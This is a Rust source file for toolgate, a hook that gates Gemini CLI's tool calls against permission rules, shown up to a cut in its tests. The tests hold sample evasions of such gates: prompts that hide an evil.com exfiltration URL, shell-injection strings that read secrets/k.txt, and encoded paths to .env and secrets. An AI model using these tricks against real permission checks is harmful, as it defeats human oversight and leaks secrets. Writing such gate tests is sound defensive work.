//! Gemini CLI: the `BeforeTool` hook (`.gemini/settings.json`).
//!
//! Payload: `{"session_id","cwd","hook_event_name":"BeforeTool","tool_name","tool_input"}`.
//! Gemini's tools are mapped onto the names toolgate's rules use:
//!
//! | Gemini CLI | toolgate request |
//! |---|---|
//! | `run_shell_command {command, dir_path?, directory?}` | `Bash {command}`, as written and as Gemini CLI runs it ([`gemini_shell`]) (cwd: each of `dir_path`, `directory`) |
//! | `read_file {file_path, absolute_path?}` | `Read {file_path}` (one per path key, and per path Gemini CLI may open for it: [`gemini_paths`]) |
//! | `write_file {file_path, content}` | `Write` |
//! | `replace {file_path, old_string, new_string}` | `Edit` |
//! | `glob {pattern, dir_path?, path?}` | `Glob` (one per root) |
//! | `grep_search`, `search_file_content` `{pattern, dir_path?, path?, include_pattern?}` | `Grep {pattern, path, include}` (one per root) |
//! | `list_directory {dir_path, path?}` | `Glob {pattern: "*", path}` |
//! | `web_fetch {prompt}` or `{url}` | `WebFetch {url}`, one per URL Gemini CLI fetches |
//! | `read_many_files`, `google_web_search`, `write_todos` | themselves, decided by rules naming them (or asks) |
//! | anything else: an MCP server's tool | `mcp__gemini-mcp__<tool_name>`, and for `server__tool` also `mcp__server__tool` |
//!
//! Gemini CLI registers an MCP server's tool under its bare name when that name is free, so
//! a server's tool may be called `grep`, `read_file` or `write_todos`. A name is read as
//! Gemini CLI's own tool only when it is one of [`OWN_TOOLS`] and every argument key is one
//! that tool takes, and the payload carries no `mcp_context`. Gemini CLI adds
//! `mcp_context` (`server_name`, `tool_name`) to every MCP call, and the model cannot set
//! it: such a call is `mcp__server__tool`, judged by that server's rules alone. Anything
//! else is a tool of [`UNNAMED_SERVER`], with all its arguments, whose defaults are an MCP
//! tool's (it asks). A name that looks qualified (`server__tool`, Gemini CLI's name for a
//! server's tool whose bare name was taken) is also judged as `mcp__server__tool`, so deny
//! and ask rules on that server still reach it, while its allow rules alone never allow it:
//! without `mcp_context` the name may be another server's bare name.
//!
//! Answers: `{"decision":"allow"}`, or `{"decision":"deny","reason"}` with exit 2 and the
//! reason on stderr. Gemini CLI ends a headless run silently on `ask`, so toolgate never
//! answers `ask`: a call that needs approval is denied with the reason "needs approval", and
//! the model is told to ask the user to allow it.
//!
//! ```
//! use toolgate::agents::{gemini, HookEvent, Verdict};
//! let a = gemini::render(HookEvent::PreToolUse, &Verdict::Ask("toolgate: shell".into()));
//! assert!(a.stdout.contains(r#""decision":"deny""#));
//! assert!(a.stdout.contains("needs approval"));
//! ```

use serde_json::{json, Value};

use super::payload::{
    field_str, mode, object, object_field, request, required_str, unnamed_server_request,
};
use super::{
    gemini_paths, gemini_shell, json_text, Agent, HookAnswer, HookCall, HookEvent, Verdict,
};
use crate::error::Result;
use crate::request::Request;

/// Gemini CLI's own bookkeeping tools.
const INTERNAL_TOOLS: &[&str] = &["write_todos"];

/// The server name given to a call that is not one of Gemini CLI's own tools: an MCP
/// server's tool, which Gemini CLI names by the tool's bare name (the payload does not say
/// which server it is).
pub const UNNAMED_SERVER: &str = "gemini-mcp";

/// Gemini CLI's own tools that toolgate reads, each with every argument key a version of
/// Gemini CLI gives it (parameters were renamed between versions: `absolute_path` →
/// `file_path`, `path`/`directory` → `dir_path`; `search_file_content` is `grep_search`'s
/// old name). A call of one of these names with any other key is not Gemini CLI's tool.
pub const OWN_TOOLS: &[(&str, &[&str])] = &[
    (
        "run_shell_command",
        &[
            "command",
            "description",
            "dir_path",
            "directory",
            "is_background",
            "delay_ms",
            "additional_permissions",
        ],
    ),
    (
        "read_file",
        &[
            "file_path",
            "absolute_path",
            "path",
            "start_line",
            "end_line",
            "offset",
            "limit",
        ],
    ),
    (
        "write_file",
        &[
            "file_path",
            "absolute_path",
            "content",
            "modified_by_user",
            "ai_proposed_content",
        ],
    ),
    (
        "replace",
        &[
            "file_path",
            "absolute_path",
            "old_string",
            "new_string",
            "instruction",
            "allow_multiple",
            "expected_replacements",
            "modified_by_user",
            "ai_proposed_content",
        ],
    ),
    (
        "glob",
        &[
            "pattern",
            "dir_path",
            "path",
            "case_sensitive",
            "respect_git_ignore",
            "respect_gemini_ignore",
        ],
    ),
    ("grep_search", GREP_KEYS),
    ("search_file_content", GREP_KEYS),
    (
        "list_directory",
        &[
            "dir_path",
            "path",
            "ignore",
            "file_filtering_options",
            "respect_git_ignore",
        ],
    ),
    ("web_fetch", &["prompt", "url"]),
    (
        "read_many_files",
        &[
            "include",
            "exclude",
            "paths",
            "recursive",
            "useDefaultExcludes",
            "file_filtering_options",
            "respect_git_ignore",
        ],
    ),
    ("google_web_search", &["query"]),
    ("write_todos", &["todos"]),
];

/// The argument keys of Gemini CLI's text search (`grep_search`, formerly
/// `search_file_content`).
const GREP_KEYS: &[&str] = &[
    "pattern",
    "dir_path",
    "path",
    "include",
    "include_pattern",
    "exclude_pattern",
    "names_only",
    "case_sensitive",
    "fixed_strings",
    "context",
    "after",
    "before",
    "no_ignore",
    "max_matches_per_file",
    "total_max_matches",
];

/// Whether a call of `tool` with `input` is Gemini CLI's own tool of that name: the name is
/// one of [`OWN_TOOLS`] and `input` is an object whose every key that tool takes.
///
/// ```
/// use serde_json::json;
/// use toolgate::agents::gemini::is_own_tool;
/// assert!(is_own_tool("grep_search", &json!({"pattern": "x", "dir_path": "src"})));
/// assert!(!is_own_tool("grep_search", &json!({"pattern": "x", "action": "purge"})));
/// assert!(!is_own_tool("grep", &json!({"pattern": "x"})));
/// ```
pub fn is_own_tool(tool: &str, input: &Value) -> bool {
    let Some(keys) = OWN_TOOLS
        .iter()
        .find(|(name, _)| *name == tool)
        .map(|t| t.1)
    else {
        return false;
    };
    input
        .as_object()
        .is_some_and(|args| args.keys().all(|k| keys.contains(&k.as_str())))
}

/// The event a Gemini CLI payload reports, if it is one.
pub fn event(payload: &Value) -> Option<HookEvent> {
    match field_str(payload, "hook_event_name")? {
        "BeforeTool" => Some(HookEvent::PreToolUse),
        "AfterTool" | "BeforeAgent" | "AfterAgent" | "BeforeModel" | "AfterModel"
        | "SessionStart" | "SessionEnd" | "Notification" | "PreCompress" => {
            Some(HookEvent::Observe)
        }
        _ => None,
    }
}

/// Reads a Gemini CLI payload.
pub fn call(event: HookEvent, payload: &Value) -> Result<HookCall> {
    let session_id = field_str(payload, "session_id").unwrap_or("").to_owned();
    let cwd = field_str(payload, "cwd").map(str::to_owned);
    if event == HookEvent::Observe {
        return Ok(HookCall {
            agent: Agent::Gemini,
            event,
            tool: field_str(payload, "tool_name").unwrap_or("").to_owned(),
            requests: Vec::new(),
            session_id,
            cwd,
            project: None,
            internal: false,
            can_ask: true,
            tool_input: None,
            readings: Vec::new(),
        });
    }
    let tool = required_str(payload, "tool_name")?.to_owned();
    let input = object_field(payload, "tool_input")?;
    // `mcp_context` is Gemini CLI's own record of the server (the model names only the
    // tool and its arguments), so its name for the tool is the tool's.
    let judged = match payload.get("mcp_context").map(context_name) {
        Some(Some(name)) => as_written(vec![request(&name, input.clone())]),
        Some(None) => as_written(mcp_requests(&tool, &input, None)),
        None => map_tool_from(&tool, &input, cwd.as_deref()),
    };
    let (mut requests, readings): (Vec<Request>, Vec<Option<String>>) = judged.into_iter().unzip();
    for req in &mut requests {
        req.mode = mode(payload, "permission_mode");
        if let (Some(dir), Some(base)) = (req.cwd.as_deref(), cwd.as_deref()) {
            if !dir.starts_with('/') {
                req.cwd = Some(format!("{}/{dir}", base.trim_end_matches('/')));
            }
        }
    }
    // Only Gemini CLI's own bookkeeping tool, read as one, is left to Gemini CLI.
    let internal = !requests.is_empty()
        && requests
            .iter()
            .all(|r| INTERNAL_TOOLS.contains(&r.tool.as_str()));
    Ok(HookCall {
        agent: Agent::Gemini,
        event,
        internal,
        tool,
        requests,
        session_id,
        cwd,
        project: None,
        can_ask: true,
        tool_input: None,
        readings,
    })
}

/// A request and, when it judges a path as Gemini CLI reads it rather than as written, how
/// Gemini CLI reads it ([`gemini_paths::PathReading::how`]).
type Judged = (Request, Option<String>);

/// Requests that judge the call as written.
fn as_written(requests: Vec<Request>) -> Vec<Judged> {
    requests.into_iter().map(|r| (r, None)).collect()
}

/// A Gemini CLI tool call as the requests toolgate's rules understand: one per path (or
/// URL, or working directory) the tool could use. Gemini CLI renamed parameters between
/// versions (`absolute_path` → `file_path`, `path`/`directory` → `dir_path`), so every
/// spelling present is judged, each as its own request; the strictest decision wins. A call
/// that is not Gemini CLI's own tool ([`is_own_tool`]) is an MCP tool of [`UNNAMED_SERVER`].
///
/// ```
/// use serde_json::json;
/// use toolgate::agents::gemini::map_tool;
/// let r = map_tool("read_file", &json!({"absolute_path": "/p/a.rs"}));
/// assert_eq!((r[0].tool.as_str(), r[0].input_str("file_path")), ("Read", Some("/p/a.rs")));
/// // A server's tool named `grep`: an MCP tool, with every argument.
/// let r = map_tool("grep", &json!({"pattern": "*", "action": "purge"}));
/// assert_eq!(r[0].tool, "mcp__gemini-mcp__grep");
/// assert_eq!(r[0].input_str("action"), Some("purge"));
/// // Every path Gemini CLI may open is judged: `%2F` is decoded.
/// let r = map_tool("read_file", &json!({"file_path": "/p/secrets%2Fk.txt"}));
/// assert_eq!(r[1].input_str("file_path"), Some("/p/secrets/k.txt"));
/// ```
pub fn map_tool(tool: &str, input: &Value) -> Vec<Request> {
    map_tool_from(tool, input, None)
        .into_iter()
        .map(|(r, _)| r)
        .collect()
}

/// [`map_tool`] for a call whose relative paths Gemini CLI resolves against `cwd`, each
/// request with how Gemini CLI reads the path it judges when that is not as written.
fn map_tool_from(tool: &str, input: &Value, cwd: Option<&str>) -> Vec<Judged> {
    if !is_own_tool(tool, input) {
        return as_written(mcp_requests(tool, input, None));
    }
    let get = |k: &str| input.get(k);
    let each_path =
        |keys: &[&str], make: &dyn Fn(Option<&Value>) -> Request| per_path(input, keys, cwd, make);
    match tool {
        "run_shell_command" => shell_requests(tool, input),
        "read_file" => each_path(&["file_path", "absolute_path", "path"], &|p| {
            request("Read", object(&[("file_path", p)]))
        }),
        "write_file" => each_path(&["file_path", "absolute_path"], &|p| {
            request(
                "Write",
                object(&[("file_path", p), ("content", get("content"))]),
            )
        }),
        "replace" => each_path(&["file_path", "absolute_path"], &|p| {
            request(
                "Edit",
                object(&[
                    ("file_path", p),
                    ("old_string", get("old_string")),
                    ("new_string", get("new_string")),
                ]),
            )
        }),
        "glob" => each_path(&["dir_path", "path"], &|p| {
            request("Glob", object(&[("pattern", get("pattern")), ("path", p)]))
        }),
        "grep_search" | "search_file_content" => each_path(&["dir_path", "path"], &|p| {
            request(
                "Grep",
                object(&[
                    ("pattern", get("pattern")),
                    ("path", p),
                    ("include", get("include_pattern").or(get("include"))),
                ]),
            )
        }),
        "list_directory" => {
            let star = json!("*");
            each_path(&["dir_path", "path"], &|p| {
                request("Glob", object(&[("pattern", Some(&star)), ("path", p)]))
            })
        }
        "web_fetch" => as_written(web_fetch(input)),
        // Gemini CLI's own tools that rules name as they are (`read_many_files`).
        own => as_written(vec![request(own, input.clone())]),
    }
}

/// `run_shell_command`: a `Bash` request for the command as written and, when Gemini CLI
/// runs other text for it ([`gemini_shell::command_run`]: an outer `sh -c '...'` cut off
/// without reading its quotes), one for that text; each in every working directory given
/// (`dir_path`, `directory`). A directory that is not a string is one toolgate cannot
/// place: the call is judged as it is, and no rule for `Bash` applies to it.
fn shell_requests(tool: &str, input: &Value) -> Vec<Judged> {
    let commands = shell_commands(input.get("command"));
    let dirs = present(input, &["dir_path", "directory"]);
    if dirs.is_empty() {
        return commands
            .into_iter()
            .map(|(command, how)| (request("Bash", command), how))
            .collect();
    }
    let mut out = Vec::new();
    for dir in dirs {
        let Some(dir) = dir.as_str() else {
            out.push((request(tool, input.clone()), None));
            continue;
        };
        for (command, how) in &commands {
            let mut r = request("Bash", command.clone());
            r.cwd = Some(dir.to_owned());
            out.push((r, how.clone()));
        }
    }
    out
}

/// The `Bash` inputs for a `run_shell_command` command: as written, and the text Gemini CLI
/// runs for it with how it comes to run it, when that is another command (not only the
/// blanks around it trimmed).
fn shell_commands(command: Option<&Value>) -> Vec<(Value, Option<String>)> {
    let mut out = vec![(object(&[("command", command)]), None)];
    if let Some(written) = command.and_then(Value::as_str) {
        let run = gemini_shell::command_run(written);
        if run != written.trim_matches([' ', '\t', '\n']) {
            let how = format!("Gemini CLI runs this command as `{run}`");
            out.push((json!({ "command": run }), Some(how)));
        }
    }
    out
}

/// A call that is not one of Gemini CLI's own tools, as an MCP tool of [`UNNAMED_SERVER`]
/// with all its arguments; with the server's own name for it (`mcp__server__tool`, from
/// `named` or from a `server__tool` name), also as that, so deny and ask rules on the server
/// reach it while its allow rules alone do not allow it.
fn mcp_requests(tool: &str, input: &Value, named: Option<String>) -> Vec<Request> {
    let mut requests = vec![unnamed_server_request(UNNAMED_SERVER, tool, input.clone())];
    if let Some(name) = named.or_else(|| server_qualified(tool)) {
        requests.push(request(&name, input.clone()));
    }
    requests
}

/// The `mcp__server__tool` name of a tool name that names its server: `server__tool` (Gemini
/// CLI's name for a server's tool whose bare name was taken), or `mcp__server__tool` itself.
fn server_qualified(tool: &str) -> Option<String> {
    if tool.starts_with("mcp__") {
        return Some(tool.to_owned());
    }
    match tool.split_once("__") {
        Some((server, name)) if !server.is_empty() && !name.is_empty() => {
            Some(format!("mcp__{server}__{name}"))
        }
        _ => None,
    }
}

/// The `mcp__server__tool` name from a payload's `mcp_context` (`server_name`, `tool_name`),
/// which Gemini CLI adds to every MCP call.
fn context_name(context: &Value) -> Option<String> {
    let server = field_str(context, "server_name").filter(|s| !s.is_empty())?;
    let tool = field_str(context, "tool_name").filter(|t| !t.is_empty())?;
    Some(format!("mcp__{server}__{tool}"))
}

/// The values of `keys` present in `input`, distinct values only.
fn present<'a>(input: &'a Value, keys: &[&str]) -> Vec<&'a Value> {
    let mut out: Vec<&Value> = Vec::new();
    for key in keys {
        if let Some(v) = input.get(key) {
            if !out.contains(&v) {
                out.push(v);
            }
        }
    }
    out
}

/// One request per path Gemini CLI may open for each distinct path under `keys`
/// ([`gemini_paths::readings`]: the path as written without NUL bytes, without a leading
/// `@`, percent-decoded); one request without a path when none is present. A value that is
/// not a string is judged as it is.
fn per_path(
    input: &Value,
    keys: &[&str],
    cwd: Option<&str>,
    make: &dyn Fn(Option<&Value>) -> Request,
) -> Vec<Judged> {
    let paths = present(input, keys);
    if paths.is_empty() {
        return vec![(make(None), None)];
    }
    let mut out = Vec::new();
    for p in paths {
        let Some(written) = p.as_str() else {
            out.push((make(Some(p)), None));
            continue;
        };
        for reading in gemini_paths::readings(written, cwd) {
            out.push((make(Some(&Value::String(reading.path))), reading.how));
        }
    }
    out
}

/// JavaScript's `\s` (and what its `trim` removes), which Gemini CLI splits a `web_fetch`
/// prompt on and trims a shell command of.
pub(super) fn js_space(c: char) -> bool {
    matches!(
        c,
        '\t' | '\n' | '\u{b}' | '\u{c}' | '\r' | ' ' | '\u{a0}' | '\u{1680}' | '\u{2000}'
            ..='\u{200a}'
                | '\u{2028}'
                | '\u{2029}'
                | '\u{202f}'
                | '\u{205f}'
                | '\u{3000}'
                | '\u{feff}'
    )
}

/// `web_fetch`: Gemini CLI fetches every token of the prompt that contains `://` and parses
/// as an http(s) URL (WHATWG rules: the scheme in any case, leading control characters
/// dropped), with GitHub `blob` pages turned into `raw.githubusercontent.com`; newer versions
/// take a `url` instead. Each is a `WebFetch` request: the token as written (a token that
/// does not parse carries doubt and asks) and the URL as Gemini CLI fetches it.
fn web_fetch(input: &Value) -> Vec<Request> {
    let mut urls: Vec<String> = Vec::new();
    let mut add = |u: String| {
        if !urls.contains(&u) {
            urls.push(u);
        }
    };
    let mut tokens: Vec<String> = Vec::new();
    match input.get("url") {
        Some(Value::String(u)) => tokens.push(u.clone()),
        Some(other) => tokens.push(other.to_string()),
        None => {}
    }
    match input.get("prompt") {
        Some(Value::String(p)) => tokens.extend(
            p.split(js_space)
                .filter(|t| t.contains("://"))
                .map(str::to_owned),
        ),
        Some(other) => tokens.push(other.to_string()),
        None => {}
    }
    for token in tokens {
        add(token.clone());
        if let Ok(url) = url::Url::parse(&token) {
            add(url.as_str().to_owned());
            if let Some(raw) = github_raw(&url) {
                add(raw);
            }
        }
    }
    if urls.is_empty() {
        return vec![request("web_fetch_prompt", input.clone())];
    }
    urls.into_iter()
        .map(|u| request("WebFetch", json!({ "url": u })))
        .collect()
}

/// Gemini CLI's rewrite of a GitHub `blob` page to its raw file.
fn github_raw(url: &url::Url) -> Option<String> {
    if url.host_str() != Some("github.com") || !url.path().contains("/blob/") {
        return None;
    }
    let mut parts = url.path().splitn(5, '/');
    let (_, owner, repo, blob) = (parts.next()?, parts.next()?, parts.next()?, parts.next()?);
    if blob != "blob" {
        return None;
    }
    let rest = parts.next().unwrap_or("");
    let mut raw = url.clone();
    raw.set_host(Some("raw.githubusercontent.com")).ok()?;
    raw.set_path(&format!("/{owner}/{repo}/{rest}"));
    Some(raw.as_str().to_owned())
}

/// Gemini CLI's answer for a verdict.
pub fn render(event: HookEvent, verdict: &Verdict) -> HookAnswer {
    if event == HookEvent::Observe {
        return HookAnswer::default();
    }
    match verdict {
        Verdict::Defer => HookAnswer::default(),
        Verdict::Allow(r) => HookAnswer {
            stdout: json_text(&json!({"decision": "allow", "reason": r})),
            stderr: String::new(),
            exit_code: 0,
        },
        Verdict::Deny(r) => deny(r),
        Verdict::Ask(r) => deny(&format!(
            "Permission denied: this call needs approval ({r}) and Gemini CLI cannot ask here. \
             Do not retry it; tell the user what you wanted to run so they can run it or allow \
             it in the toolgate policy."
        )),
    }
}

fn deny(reason: &str) -> HookAnswer {
    HookAnswer {
        stdout: json_text(&json!({"decision": "deny", "reason": reason})),
        stderr: reason.to_owned(),
        exit_code: Agent::Gemini.blocking_exit_code(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::agents::parse_call;

    #[test]
    fn reads_the_captured_payload() {
        let call = parse_call(None, &crate::agents::captured("gemini-BeforeTool")).unwrap();
        assert_eq!(
            (call.agent, call.event),
            (Agent::Gemini, HookEvent::PreToolUse)
        );
        assert_eq!(call.requests[0].tool, "Bash");
        assert_eq!(call.requests[0].input_str("command"), Some("touch out.txt"));
    }

    #[test]
    fn maps_tools() {
        let cases = [
            (
                "write_file",
                json!({"file_path":"a","content":"x"}),
                "Write",
            ),
            (
                "replace",
                json!({"file_path":"a","old_string":"x","new_string":"y"}),
                "Edit",
            ),
            ("glob", json!({"pattern":"*.rs"}), "Glob"),
            ("search_file_content", json!({"pattern":"x"}), "Grep"),
            ("list_directory", json!({"path":"/p"}), "Glob"),
            (
                "web_fetch",
                json!({"prompt":"summarise https://a.example/x."}),
                "WebFetch",
            ),
            (
                "web_fetch",
                json!({"prompt":"https://a.example https://b.example"}),
                "WebFetch",
            ),
            (
                "web_fetch",
                json!({"prompt":"no link here"}),
                "web_fetch_prompt",
            ),
            (
                "github__get_issue",
                json!({}),
                "mcp__gemini-mcp__github__get_issue",
            ),
            (
                "read_many_files",
                json!({"include":["*.md"]}),
                "read_many_files",
            ),
        ];
        for (tool, input, want) in cases {
            assert_eq!(map_tool(tool, &input)[0].tool, want, "{tool}");
        }
        let r = map_tool(
            "web_fetch",
            &json!({"prompt":"summarise https://a.example/x"}),
        );
        assert_eq!(r.len(), 1);
        assert_eq!(r[0].input_str("url"), Some("https://a.example/x"));
        let r = map_tool(
            "run_shell_command",
            &json!({"command":"ls","directory":"/p/sub"}),
        );
        assert_eq!(r[0].cwd.as_deref(), Some("/p/sub"));
    }

    #[test]
    fn a_relative_shell_directory_is_under_the_working_directory() {
        let p = json!({"session_id":"s","cwd":"/p","hook_event_name":"BeforeTool",
            "tool_name":"run_shell_command","tool_input":{"command":"ls","directory":"sub"}});
        let call = parse_call(None, &p.to_string()).unwrap();
        assert_eq!(call.requests[0].cwd.as_deref(), Some("/p/sub"));
    }

    fn verdict(policy: &str, tool: &str, input: Value) -> Verdict {
        let p = json!({"session_id":"s","cwd":"/p","hook_event_name":"BeforeTool",
            "tool_name":tool,"tool_input":input});
        let call = parse_call(Some(Agent::Gemini), &p.to_string()).unwrap();
        let policy = crate::Policy::from_json(policy).unwrap();
        crate::agents::decide(&call, &policy, &crate::decision::TrustOverlay::default()).verdict
    }

    #[test]
    fn web_fetch_judges_every_url_of_the_prompt() {
        // Gemini CLI fetches every token that contains `://` and parses as http(s): the
        // scheme in any case, leading control characters dropped, JavaScript's `\s` (which
        // includes U+FEFF) between tokens.
        let allow = r#"{"permissions":{"allow":["WebFetch(domain:docs.rs)"]}}"#;
        let ok = verdict(
            allow,
            "web_fetch",
            json!({"prompt":"Summarize https://docs.rs/serde"}),
        );
        assert!(matches!(ok, Verdict::Allow(_)), "{ok:?}");
        for prompt in [
            "Summarize https://docs.rs/serde and HTTPS://evil.com/?k=marker",
            "Summarize https://docs.rs/serde and Http://evil.com/x",
            "Summarize https://docs.rs/serde and \u{1}https://evil.com/x",
            "Summarize https://docs.rs/serde\u{feff}https://evil.com/",
            "Summarize https://docs.rs/serde\u{a0}https://evil.com/",
            "Summarize https://docs.rs/serde and see:https://evil.com/",
        ] {
            let v = verdict(allow, "web_fetch", json!({ "prompt": prompt }));
            assert!(!matches!(v, Verdict::Allow(_)), "{prompt:?}: {v:?}");
        }
        let deny = r#"{"defaultMode":"bypassPermissions",
            "permissions":{"deny":["WebFetch(domain:evil.com)"]}}"#;
        for prompt in [
            "Summarize https://docs.rs/serde and HTTPS://evil.com/?k=marker",
            "Summarize https://docs.rs/serde and Http://evil.com/x",
            "Summarize https://docs.rs/serde and \u{1}https://evil.com/x",
            "Summarize https://docs.rs/serde\u{feff}https://evil.com/",
        ] {
            let v = verdict(deny, "web_fetch", json!({ "prompt": prompt }));
            assert!(matches!(v, Verdict::Deny(_)), "{prompt:?}: {v:?}");
        }
        // Newer versions fetch `url` directly.
        let v = verdict(deny, "web_fetch", json!({"url":"https://EVIL.com/x"}));
        assert!(matches!(v, Verdict::Deny(_)), "{v:?}");
        // A GitHub page is fetched from raw.githubusercontent.com.
        let r = map_tool(
            "web_fetch",
            &json!({"prompt":"https://github.com/o/r/blob/main/a.md"}),
        );
        let urls: Vec<_> = r.iter().filter_map(|r| r.input_str("url")).collect();
        assert!(
            urls.contains(&"https://raw.githubusercontent.com/o/r/main/a.md"),
            "{urls:?}"
        );
    }

    #[test]
    fn file_tools_judge_every_path_key() {
        // Gemini CLI 0.61 reads `file_path`; older versions `absolute_path`.
        let deny = r#"{"permissions":{"deny":["Read(./.env)","Edit(./.env)"]}}"#;
        let v = verdict(
            deny,
            "read_file",
            json!({"absolute_path":"/p/src/a.rs","file_path":"/p/.env"}),
        );
        assert!(matches!(v, Verdict::Deny(_)), "{v:?}");
        let v = verdict(
            deny,
            "read_file",
            json!({"file_path":"/p/src/a.rs","absolute_path":"/p/.env"}),
        );
        assert!(matches!(v, Verdict::Deny(_)), "{v:?}");
        // NUL bytes are stripped before the file is opened.
        let v = verdict(deny, "read_file", json!({"file_path":"/p/.e\u{0}nv"}));
        assert!(matches!(v, Verdict::Deny(_)), "{v:?}");
        let v = verdict(
            deny,
            "replace",
            json!({"absolute_path":"/p/a.rs","file_path":".env","old_string":"a","new_string":"b"}),
        );
        assert!(matches!(v, Verdict::Deny(_)), "{v:?}");
    }

    #[test]
    fn file_tools_judge_every_path_gemini_cli_may_open() {
        // Gemini CLI drops a leading `@` and percent-decodes the resolved path.
        let deny = r#"{"permissions":{"deny":["Read(./secrets/**)"]}}"#;
        for input in [
            json!({"file_path":"secrets%2Fk.txt"}),
            json!({"file_path":"%73ecrets/k.txt"}),
            json!({"file_path":"@secrets/k.txt"}),
            json!({"file_path":"file:///p/secrets/k.txt"}),
        ] {
            let v = verdict(deny, "read_file", input.clone());
            let Verdict::Deny(why) = v else {
                panic!("{input}: {v:?}")
            };
            assert!(why.contains("Gemini CLI"), "{input}: {why}");
        }
        let v = verdict(
            deny,
            "grep_search",
            json!({"pattern":"K","dir_path":"%73ecrets"}),
        );
        assert!(matches!(v, Verdict::Deny(_)), "{v:?}");
        let write = r#"{"permissions":{"allow":["Write(./**)","Edit(./**)"]}}"#;
        for path in [
            ".toolgate%2Fpolicy.json",
            "%2eenvrc",
            "%2Evscode/tasks.json",
            "@.gemini/settings.json",
            ".claude%2Fsettings.json",
        ] {
            for (tool, input) in [
                ("write_file", json!({"file_path": path, "content": "x"})),
                (
                    "replace",
                    json!({"file_path": path, "old_string": "a", "new_string": "b"}),
                ),
            ] {
                let v = verdict(write, tool, input);
                let Verdict::Ask(why) = v else {
                    panic!("{tool} {path}: {v:?}")
                };
                assert!(why.contains("protected"), "{tool} {path}: {why}");
            }
        }
        // What Gemini CLI opens as written stays allowed.
        let v = verdict(
            write,
            "write_file",
            json!({"file_path":"src/a%zz.rs","content":"x"}),
        );
        assert!(matches!(v, Verdict::Allow(_)), "{v:?}");
    }

    #[test]
    fn the_shell_runs_in_dir_path() {
        // Gemini CLI 0.61 runs the command in `dir_path` (older versions: `directory`).
        let deny = r#"{"permissions":{"deny":["Read(//p/private/**)"]}}"#;
        let v = verdict(
            deny,
            "run_shell_command",
            json!({"command":"cat notes.txt","dir_path":"private"}),
        );
        assert!(matches!(v, Verdict::Deny(_)), "{v:?}");
        let v = verdict(
            deny,
            "run_shell_command",
            json!({"command":"cat notes.txt","dir_path":"/p","directory":"private"}),
        );
        assert!(matches!(v, Verdict::Deny(_)), "{v:?}");
        let v = verdict(
            "{}",
            "run_shell_command",
            json!({"command":"ls","dir_path":7}),
        );
        assert!(!matches!(v, Verdict::Allow(_)), "{v:?}");
    }

    #[test]
    fn the_shell_command_is_judged_as_gemini_cli_runs_it() {
        // Gemini CLI cuts an outer `sh -c '...'` off by its first and last quote and runs
        // what is left: `ls' ' ;touch PWNED; cat secrets/k.txt; echo`.
        let deny = r#"{"permissions":{"deny":["Read(./secrets/**)"]}}"#;
        for input in [
            json!({"command":"sh -c 'ls' ' ;touch PWNED; cat secrets/k.txt; echo '"}),
            json!({"command":"bash -c \"ls\" \"; cat secrets/k.txt; echo \""}),
            json!({"command":"/bin/sh -C 'ls' '; cat secrets/k.txt; '","dir_path":"/p"}),
            json!({"command":"cmd.exe /c 'ls' '; cat secrets/k.txt; '"}),
        ] {
            let v = verdict(deny, "run_shell_command", input.clone());
            let Verdict::Deny(why) = v else {
                panic!("{input}: {v:?}")
            };
            assert!(
                why.contains("Read(./secrets/**)") && why.contains("Gemini CLI runs this"),
                "{input}: {why}"
            );
        }
        // A wrapper whose quotes Gemini CLI cuts off as the shell reads them keeps its
        // decision.
        let v = verdict(deny, "run_shell_command", json!({"command":"bash -c 'ls'"}));
        assert!(matches!(v, Verdict::Allow(_)), "{v:?}");
        let r = map_tool("run_shell_command", &json!({"command":" ls -l\n"}));
        assert_eq!(r.len(), 1);
    }

    #[test]
    fn searches_judge_dir_path_and_include_pattern() {
        let deny = r#"{"permissions":{"deny":["Read(//p/private/**)"]}}"#;
        for tool in ["grep_search", "glob", "list_directory"] {
            let v = verdict(deny, tool, json!({"pattern":"x","dir_path":"/p/private"}));
            assert!(!matches!(v, Verdict::Allow(_)), "{tool}: {v:?}");
            let v = verdict(
                deny,
                tool,
                json!({"pattern":"x","path":"/p/src","dir_path":"/p/private"}),
            );
            assert!(!matches!(v, Verdict::Allow(_)), "{tool}: {v:?}");
        }
        // The include pattern is what the search opens: a secret file name asks.
        let v = verdict(
            "{}",
            "grep_search",
            json!({"pattern":"KEY","include_pattern":".env"}),
        );
        assert!(!matches!(v, Verdict::Allow(_)), "{v:?}");
        let v = verdict(
            "{}",
            "grep_search",
            json!({"pattern":"KEY","include_pattern":"*.rs"}),
        );
        assert!(matches!(v, Verdict::Allow(_)), "{v:?}");
    }

    #[test]
    fn a_servers_tool_named_like_a_built_in_is_an_mcp_tool() {
        // Gemini CLI registers an MCP server's tool under its bare name when that name is
        // free: `grep` (no tool of Gemini CLI's), or one of its own names with arguments
        // that tool does not take.
        let cases = [
            ("grep", json!({"pattern":"*","action":"purge"})),
            ("grep", json!({"pattern":"x"})),
            ("Grep", json!({"pattern":"x"})),
            ("Read", json!({"file_path":"/p/a.rs"})),
            ("view", json!({"path":"/p/a.rs"})),
            ("ls", json!({"path":"/p"})),
            ("LS", json!({"path":"/p"})),
            ("Glob", json!({"pattern":"*"})),
            ("shell", json!({"command":"ls"})),
            ("Bash", json!({"command":"ls"})),
            ("grep_search", json!({"pattern":"x","action":"purge"})),
            ("read_file", json!({"file_path":"/p/a.rs","drop":true})),
            (
                "list_directory",
                json!({"dir_path":"/p","recursive_delete":true}),
            ),
            ("write_todos", json!({"todos":[],"then":"rm -rf /"})),
        ];
        for (tool, input) in cases {
            let requests = map_tool(tool, &input);
            assert_eq!(requests[0].tool, format!("mcp__gemini-mcp__{tool}"));
            // Every argument is kept.
            assert_eq!(requests[0].input, input, "{tool}");
            let v = verdict("{}", tool, input.clone());
            assert!(
                !matches!(v, Verdict::Allow(_) | Verdict::Defer),
                "{tool} {input}: {v:?}"
            );
        }
        // Rules name such a tool as a tool of the unnamed server.
        let allow = r#"{"permissions":{"allow":["mcp__gemini-mcp__lookup"]}}"#;
        let v = verdict(allow, "lookup", json!({"q":"x"}));
        assert!(matches!(v, Verdict::Allow(_)), "{v:?}");
        // Gemini CLI's own tools, with their own arguments, keep their defaults.
        let v = verdict(
            "{}",
            "grep_search",
            json!({"pattern":"x","dir_path":"/p/src","names_only":true}),
        );
        assert!(matches!(v, Verdict::Allow(_)), "{v:?}");
        let v = verdict("{}", "write_todos", json!({"todos":[]}));
        assert_eq!(v, Verdict::Defer);
    }

    #[test]
    fn a_call_gemini_marks_as_mcp_is_never_a_built_in() {
        // Gemini CLI adds `mcp_context` to every MCP call.
        let p = json!({"session_id":"s","cwd":"/p","hook_event_name":"BeforeTool",
